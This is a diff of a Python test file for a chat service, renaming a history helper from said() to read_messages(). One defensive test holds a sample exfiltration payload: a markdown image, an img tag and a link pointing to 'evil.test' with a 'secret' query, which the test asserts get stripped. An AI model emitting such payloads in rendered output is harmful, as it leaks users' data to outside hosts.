@@ -104,7 +104,7 @@ async def test_any_model_text_passes_unchanged_into_panel_and_history(service: S
     service.chat.scripts = [answer(*NASTY)]
     reader = await service.ask("data: \u2028 😀\r\n{name}")
     assert reader.texts == [NASTY]
-    assert await service.said() == [
+    assert await service.read_messages() == [
         ("user", "data: \u2028 😀\r\n{name}"),
         ("assistant", NASTY),
     ]
@@ -294,7 +294,7 @@ async def test_a_citation_reaches_panel_and_history_as_a_link_to_its_span(
         (shown,) = reader.texts
         assert shown.count("](https://opik.test/default/projects/") == 2
         assert "s99" not in shown
-        assert (await service.said())[-1] == ("assistant", shown)
+        assert (await service.read_messages())[-1] == ("assistant", shown)
         service.chat.scripts = [answer("Yes.")]
         await service.ask("Sure?")
         earlier = [each["content"] for each in service.chat.requests[-1]["messages"]]
@@ -307,6 +307,6 @@ async def test_images_and_foreign_links_of_a_model_never_leave_the_service_alive
     hostile = "![x](https://evil.test/?q=secret) <img src=//evil.test> [a](https://evil.test)"
     service.chat.scripts = [answer(*hostile)]
     reader = await service.ask()
-    shown = [*reader.texts, (await service.said())[-1][1]]
+    shown = [*reader.texts, (await service.read_messages())[-1][1]]
     assert all("![" not in each and "<img" not in each for each in shown)
     assert all("](https://evil" not in each for each in shown)
